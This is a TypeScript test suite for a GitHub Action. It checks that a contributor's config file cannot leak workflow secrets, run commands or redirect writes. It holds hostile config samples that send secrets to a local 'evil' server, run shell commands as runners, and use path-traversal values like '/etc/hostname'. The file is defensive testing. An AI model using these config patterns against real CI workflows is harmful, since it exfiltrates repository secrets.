// biome-ignore-all lint/suspicious/noTemplateCurlyInString: it is the config's own syntax
import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { runAction } from '../e2e/run-dist.ts';
import { bareRepository } from '../ledger/fixtures.ts';
import { type GitHub, serveGitHub } from '../targets/github.ts';
import type { Grants } from '../targets/github-api.ts';
import { startServer, type Target } from '../targets/server.ts';
import { forgetRequests, stepHere, untilSeen } from './here.ts';
import { openScene, type Scene } from './scene.ts';

// A contributor's checkout is on disk when the workflow runs, and what its config says would send secrets elsewhere, run a
// command, write to another place or waive a check. The config that counts is that of the default branch.

const EVENTS = [
  'pull_request',
  'pull_request_target',
  'deployment_status',
  'workflow_run',
  'issue_comment',
  // One that did not exist when this was written may be anybody's too.
  'pull_request_from_tomorrow',
];
const SECRET = 'hunter22-hunter22-canary';
const OWNED = { BYPASS: SECRET, PROBE_PASSWORD: `${SECRET}-2`, SHIP_PROOF_KEY_SECRET: `${SECRET}-3` };
const NEW = 'build-1795191111-abc';

let hub: GitHub;
let evil: Target;
let good: Target;
let scene: Scene;
beforeAll(async () => {
  hub = await serveGitHub();
  evil = await startServer((_request, response) => void response.end(NEW));
  good = await startServer((_request, response) => void response.end(NEW));
});
afterAll(async () => {
  await Promise.all([hub, evil, good].map((server) => server[Symbol.asyncDispose]()));
});
beforeEach(async () => {
  scene = openScene();
  hub.api.files.clear();
  hub.api.files.set('README.md', '#');
  hub.api.fault = () => undefined;
  for (const server of [evil, good]) await forgetRequests(server);
  hub.api.requests.length = 0;
});
afterEach(() => scene[Symbol.dispose]());

interface Hostile {
  readonly what: string;
  readonly mode: string;
  /** What the workflow says. */
  readonly inputs?: () => Readonly<Record<string, string>>;
  /** What the checkout says. */
  readonly config: () => string;
  /** Without a token it is believed, since nothing of the workflow’s is sent there and nothing is written. */
  readonly harmless?: boolean;
}

const LOOK = () => ({ 'build-id': NEW, 'max-polls': '1', confirmations: '1', within: '5s' });

const HOSTILE: readonly Hostile[] = [
  {
    what: 'another origin for the header fields of the workflow',
    mode: 'verify-live',
    inputs: () => ({ ...LOOK(), headers: `x-bypass: ${SECRET}` }),
    config: () => `live: { url: "${evil.url}/" }`,
  },
  {
    what: 'a secret in a header field',
    mode: 'verify-live',
    inputs: LOOK,
    config: () => `live: { url: "${evil.url}/", headers: { x: "\${secret:BYPASS}" } }`,
  },
  {
    what: 'a plain variable in a URL',
    mode: 'verify-live',
    inputs: LOOK,
    config: () => `live: { url: "${evil.url}/\${BYPASS}" }`,
  },
  {
    what: 'a secret in the body of a step',
    mode: 'smoke',
    config: () =>
      `smoke: { allow-private: true, checks: [{ name: a, post: "${evil.url}/", json: { p: "\${secret:PROBE_PASSWORD}" } }] }`,
  },
  {
    what: 'a command as an MCP server',
    mode: 'smoke',
    config: () =>
      `smoke: { checks: [{ name: a, command: [sh, -c, "${scene.effect}"], expect: { tools: [x] } }] }`,
  },
  {
    what: 'a command as a write',
    mode: 'idempotency-check',
    inputs: () => ({ 'allow-writes-to': 'commands' }),
    config: () =>
      `idempotency: { writes: [{ name: a, write: { run: "${scene.effect} # $SHIP_PROOF_KEY" }, observe: { run: "echo 1" } }] }`,
  },
  {
    what: 'another place to write to',
    mode: 'idempotency-check',
    config: () =>
      `idempotency: { base-url: "${evil.url}", allow-writes-to: ["${evil.url}"], writes: [{ name: a, write: { post: "/{{key}}" }, observe: { get: /, count: "$" } }] }`,
  },
  {
    what: 'the command of a runner',
    mode: 'tick',
    inputs: () => ({ runner: 'digest', 'spend-cap': '1', estimate: '0.5', store: scene.store }),
    config: () => `runners: { digest: { run: "${scene.effect}" } }`,
  },
  {
    what: 'another store',
    mode: 'status',
    inputs: () => ({ runner: 'digest', 'spend-cap': '1', estimate: '0.5' }),
    config: () => `runners: { digest: { store: "git+file:${bareRepository(`${scene.repository}.evil`)}" } }`,
  },
  {
    what: 'a policy that allows each waiver',
    mode: 'prove',
    inputs: () => ({ ...LOOK(), ledger: 'off', skip: 'smoke: none\nidempotency-check: none' }),
    config: () =>
      `live: { url: "${evil.url}/" }\npolicy: { waivers: [smoke, idempotency-check, private-url] }`,
    harmless: true,
  },
];

const environment = (event: string): Record<string, string> => ({
  ...OWNED,
  ...hub.environment(),
  GITHUB_EVENT_NAME: event,
  GITHUB_SERVER_URL: 'https://github.com',
  GITHUB_REF: 'refs/pull/7/merge',
  RUNNER_TEMP: scene.path,
});

const GRANTS: Grants = { contents: 'read' };

const attempt = (
  { mode, inputs, config }: Hostile,
  event: string,
  token: string | undefined,
  controller = new AbortController(),
) => {
  scene.write('ship-proof.yml', `${config()}\n`);
  return stepHere(
    mode,
    { ...inputs?.(), ...(token === undefined ? {} : { token }) },
    { cwd: scene.path, env: environment(event), controller },
  );
};

/** Everything that any server was sent, in the forms in which a value travels. */
function expectNothingLeft(log: string): void {
  expect(evil.requests).toEqual([]);
  expect(scene.effects()).toBe(0);
  expect(log).not.toContain(SECRET);
}

describe.each(EVENTS)('on %s', (event) => {
  it.each(HOSTILE)('the checkout can’t give $what', async (hostile) => {
    const run = await attempt(hostile, event, hub.token(GRANTS));
    expect([run.log, run.code === 0]).toEqual([run.log, false]);
    expectNothingLeft(run.log + JSON.stringify(run.proof));
    expect(hub.api.requests.length).toBeGreaterThan(0);
  });
});

it.each(HOSTILE.filter(({ harmless }) => !harmless))(
  'without a token the checkout is read, and still can’t give $what',
  async (hostile) => {
    const run = await attempt(hostile, 'pull_request', undefined);
    expect([run.log, run.code === 0]).toEqual([run.log, false]);
    expectNothingLeft(run.log + JSON.stringify(run.proof));
    expect(hub.api.requests).toEqual([]);
  },
);

it.each(HOSTILE)('on a push, the repository’s own config can give $what', async (hostile) => {
  // What a proof may be weakened by is the policy's, and this one says so.
  const reached = () => evil.requests.length + scene.effects();
  const run = await untilSeen(
    () => reached() > 0,
    (controller) => attempt(hostile, 'push', undefined, controller),
  );
  const elsewhere = existsSync(join(`${scene.repository}.evil`, 'HEAD')) && hostile.mode === 'status';
  expect([run.log, reached() > 0 || run.code === 0 || elsewhere]).toEqual([run.log, true]);
});

describe('the config of the default branch', () => {
  const evilText = () => `live: { url: "${evil.url}/" }\n`;
  const look = (env: Readonly<Record<string, string>> = {}, inputs = {}, grants: Grants = GRANTS) =>
    stepHere(
      'verify-live',
      { ...LOOK(), token: hub.token(grants), ...inputs },
      { cwd: scene.path, env: { ...environment('pull_request'), ...env } },
    );
  const asked = () => hub.api.requests.filter(({ path }) => path.includes('/contents/')).length;

  it.each(['ship-proof.yml', '.github/ship-proof.yml'])('is used instead, from %s', async (path) => {
    scene.write('ship-proof.yml', evilText());
    hub.api.files.set(path, `live: { url: "${good.url}/", headers: { x: "\${secret:BYPASS}" } }\n`);
    const run = await look();
    expect([run.log, run.code]).toEqual([run.log, 0]);
    expect(new Set(good.requests.map(({ headers }) => headers.x))).toEqual(new Set([SECRET]));
    expect([evil.requests, asked()]).toEqual([[], 2]);
  });

  it('is the one that was named, under the policy of the one in its place', async () => {
    scene.write('deploy/live.yml', evilText());
    hub.api.files.set('deploy/live.yml', `live: { url: "${good.url}/" }\n`);
    expect((await look({}, { config: './deploy/live.yml' })).code).toBe(0);
    good.requests.length = 0;
    hub.api.files.set('.github/ship-proof.yml', 'policy: { urls: [https://app.example.com/] }\n');
    const refused = await look({}, { config: join(scene.path, 'deploy/live.yml') });
    expect([refused.code, good.requests, evil.requests]).toEqual([4, [], []]);
  });

  it.each(['../other/contents/x.yml', '../../other/contents/x.yml', '/etc/hostname', '.', 'missing.yml'])(
    'can’t be %s',
    async (config) => {
      hub.api.files.set('ship-proof.yml', `live: { url: "${good.url}/" }\n`);
      const run = await look({}, { config });
      expect([run.code, good.requests]).not.toEqual([0, []]);
      expect(good.requests).toEqual([]);
      for (const { path } of hub.api.requests)
        expect(path).toMatch(/^\/repos\/octo-org\/octo-repo\/contents\//);
    },
  );

  it('costs at most four requests, the check run included', async () => {
    for (const path of ['ship-proof.yml', '.github/ship-proof.yml', 'x']) {
      hub.api.files.clear();
      hub.api.files
        .set('README.md', '#')
        .set('.github/workflows/x.yml', '')
        .set(path, `live: { url: "${good.url}/" }\n`);
      hub.api.requests.length = 0;
      await using run = await runAction(
        { mode: 'verify-live', ...LOOK(), ...(path === 'x' ? { url: `${good.url}/` } : {}) },
        {
          cwd: scene.path,
          eventName: 'pull_request',
          token: hub.token({ contents: 'read', checks: 'write' }),
          env: hub.environment(),
        },
      );
      expect([run.stdout, run.code]).toEqual([run.stdout, 0]);
      expect(hub.api.checkRuns.at(-1)?.fields.conclusion).toBe('success');
      expect(hub.api.requests.length).toBeLessThanOrEqual(4);
    }
  });

  it.each<[string, Grants, (path: string) => unknown, RegExp]>([
    [
      'the token may not',
      { contents: 'read' },
      () => ({ status: 403, body: { message: 'Resource not accessible' } }),
      /contents: read/,
    ],
    ['the repository is private and the token may not see it', {}, () => undefined, /contents: read/],
    [
      'the server fails',
      { contents: 'read' },
      () => ({ status: 500, body: 'x' }),
      /problem of its own \(500\)/,
    ],
    ['the server says nothing', { contents: 'read' }, () => 'hang', /gave no answer/],
    ['the connection breaks', { contents: 'read' }, () => 'reset', /127\.0\.0\.1/],
    ['it is not JSON', { contents: 'read' }, () => ({ status: 200, body: '<html>' }), /no list/],
    ['a file is too large', { contents: 'read' }, () => undefined, /too large/],
    [
      'a file that is listed is not found',
      { contents: 'read' },
      (path) => (path.endsWith('.yml') ? { status: 404, body: {} } : undefined),
      /404/,
    ],
  ])('is inconclusive where %s', async (what, grants, fault, says) => {
    scene.write('ship-proof.yml', evilText());
    hub.api.files.set('ship-proof.yml', what.includes('large') ? '#'.repeat(1024 * 1024 + 1) : '#\n');
    hub.api.fault = ({ path }) => (path.includes('/contents/') ? (fault(path) as never) : undefined);
    const run = await look({}, {}, grants);
    expect([run.log, run.code]).toEqual([run.log, 3]);
    const lines = run.log.split('\n').filter((line) => line.includes('check=error:config-unreachable'));
    expect(lines).toHaveLength(1);
    expect(lines[0]).toMatch(says);
    expect([evil.requests, good.requests]).toEqual([[], []]);
  });

  it('rules by its policy also on a push to another branch, whose own policy and runners are not believed', async () => {
    const push = (inputs: Readonly<Record<string, string>>, mode = 'verify-live') =>
      stepHere(
        mode,
        { token: hub.token(GRANTS), ...inputs },
        {
          cwd: scene.path,
          env: {
            ...environment('push'),
            GITHUB_REF: 'refs/heads/feature',
            GITHUB_EVENT_PATH: join(scene.path, 'event.json'),
          },
        },
      );
    scene.write('event.json', JSON.stringify({ repository: { default_branch: 'main' } }));
    scene.write(
      'ship-proof.yml',
      `live: { url: "${good.url}/" }\npolicy: { urls: ["${good.url}/"] }\nrunners: { rogue: { spend-cap: 99, estimate: 1 } }\n`,
    );
    hub.api.files.set(
      'ship-proof.yml',
      'policy: { urls: [https://app.example.com/] }\nrunners: { digest: { spend-cap: 1, estimate: 1 } }\n',
    );
    const refused = await push(LOOK());
    expect([refused.code, good.requests]).toEqual([4, []]);
    const rogue = await push({ runner: 'rogue', run: scene.effect, store: scene.store }, 'tick');
    expect([rogue.code, scene.effects()]).toEqual([4, 0]);
    hub.api.files.set('ship-proof.yml', `policy: { urls: ["${good.url}/"] }\n`);
    expect((await push(LOOK())).code).toBe(0);
    hub.api.fault = () => ({ status: 500 });
    expect((await push(LOOK())).code).toBe(3);
    // On the default branch itself nobody has to be asked.
    const before = hub.api.requests.length;
    const main = await stepHere(
      'verify-live',
      { ...LOOK(), token: hub.token(GRANTS) },
      {
        cwd: scene.path,
        env: {
          ...environment('push'),
          GITHUB_REF: 'refs/heads/main',
          GITHUB_EVENT_PATH: join(scene.path, 'event.json'),
        },
      },
    );
    expect([main.code, hub.api.requests.length]).toEqual([0, before]);
  });
});

it('the files that the repository’s own list names are not taken from the checkout', async () => {
  scene.write('body.txt', 'contributed');
  scene.write('checks.yml', `- { name: a, get: "${evil.url}/" }\n`);
  const smoke = async (text: string) => {
    hub.api.files.set('ship-proof.yml', text);
    return stepHere(
      'smoke',
      { token: hub.token(GRANTS) },
      { cwd: scene.path, env: environment('pull_request') },
    );
  };
  const named = await smoke('smoke: { checks: checks.yml }\n');
  expect([named.code, evil.requests]).toEqual([2, []]);
  expect(named.log).toContain('config-untrusted');
  const sent = await smoke(`smoke: { checks: [{ name: a, post: "${good.url}/", file: body.txt }] }\n`);
  expect([sent.log, sent.code, good.requests]).toEqual([sent.log, 2, []]);
  expect(sent.log).toContain('contributor');
});

it.each(['pull_request', 'deployment_status'])('the built program does the same on %s', async (event) => {
  scene.write('ship-proof.yml', `live: { url: "${evil.url}/", headers: { x: "\${secret:BYPASS}" } }\n`);
  await using run = await runAction(
    { mode: 'verify-live', ...LOOK() },
    { cwd: scene.path, eventName: event, token: hub.token(GRANTS), env: { ...hub.environment(), ...OWNED } },
  );
  expect(run.code).toBe(2);
  expect(evil.requests).toEqual([]);
  expect(run.stdout + run.summary).not.toContain(SECRET);
});
